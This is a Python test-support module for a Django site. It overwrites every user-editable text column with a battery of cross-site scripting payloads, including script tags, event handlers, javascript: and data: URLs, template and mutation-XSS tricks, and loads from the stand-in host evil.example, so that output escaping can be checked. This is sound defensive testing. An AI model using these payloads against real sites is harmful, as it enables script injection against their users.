"""Texts that would run if a page took them for markup, in every column that somebody can fill."""

import re

from django.apps import apps
from django.db import IntegrityError, transaction
from django.db.models import CharField, Field, Model, TextField, Value
from django.db.models.functions import Cast, Concat, Left

from nidairp.editing.body import BodyField, sanitize

HOST = "evil.example"
#: Out of attributes of either kind, out of elements that hold text, out of comments, scripts and templates;
#: markup that is one only after it was decoded once too often. The most important first: columns are short.
TEXT = (
    f"\"'><img src=//{HOST}/1 onerror=hit()><svg/onload=hit()><script src=//{HOST}/2></script>"
    "' onfocus=hit() autofocus '"
    "</title></textarea></script><script>hit()</script><!--<i onload=hit()>--> {{7*7}} `${hit()}` ';hit();// "
    f"&lt;img src=//{HOST}/3 onerror=hit()&gt; &#60;script&#62;hit()&#60;/script&#62; "
    "\\u003cscript>hit()\\u003c/script> "
    f"<math><mtext><table><mglyph><style><img src=//{HOST}/4 onerror=hit()></style> "
    "<i class=x onclick=hit()>\u202e</i> "
    f"<iframe src=javascript:hit()></iframe><base href=//{HOST}/5/>"
    f"<meta http-equiv=refresh content=0;url=//{HOST}/6>"
)
ADDRESS = "java\tscript:hit()//\"'><script>hit()</script>"
LINK = ADDRESS.replace('"', "&quot;")
BODY = (
    f'<p>{TEXT}</p><p><a href="{LINK}">a</a> <a href="data:text/html,&lt;script>hit()&lt;/script>">b</a></p>'
    f"<h2 onclick=hit()>{TEXT}</h2>"
    f'<figure><img data-image="1" src=//{HOST}/7 onerror=hit() alt="{LINK}"></figure>'
)
LATEX = (
    r"\href{javascript:hit()}{x} \url{data:text/html,hit()} {\textless}script{\textgreater}hit()"
    r"{\textless}/script> "
    r"\textit{<img src=//evil.example/8 onerror=hit()>} $<svg onload=hit()>$ \char60 script>"
)
#: What a program reads and no person: parts of addresses, keys, what its settings know.
NOT_TYPED = {
    "path",
    "key",
    "codename",
    "old_path",
    "password",
    "entry_type",
    "page",
    "object_id",
    "app_label",
}
#: Apps whose rows people make.
LABELS = "admin auth editing library links navigation news pages people publications redirects".split()
ADDRESSES = {"url", "link", "homepage", "map_link", "email"}


def is_hostile(address: str) -> bool:
    """Whether a browser would run it, or ask another site that only a text named."""
    plain = re.sub(r"[\t\n\r]", "", address).strip("\0 ").lower()
    return plain.startswith(("javascript:", "vbscript:", "data:text", f"//{HOST}"))


def poison(*labels: str) -> int:
    """Past all forms, so that what shows the rows holds by itself. Says how many columns took it."""
    models = [model for label in labels for model in apps.get_app_config(label).get_models()]
    return sum(
        filled(model, field) for model in models for field in model._meta.concrete_fields if typed(field)
    )


def typed(field: Field) -> bool:
    if field.primary_key or field.choices or "slug" in field.name or not field.editable:
        return False
    return isinstance(field, CharField | TextField) and field.name not in NOT_TYPED


def filled(model: type[Model], field: Field) -> bool:
    """Not where the database itself refuses it: a menu item has an address or a target."""
    text = ADDRESS if field.name in ADDRESSES else sanitize(BODY) if isinstance(field, BodyField) else TEXT
    value = text[: field.max_length]
    if field.unique:
        value = Left(Concat(Cast("pk", CharField()), Value(text)), field.max_length)
    try:
        with transaction.atomic():
            return model._base_manager.update(**{field.name: value}) > 0
    except IntegrityError:
        return False
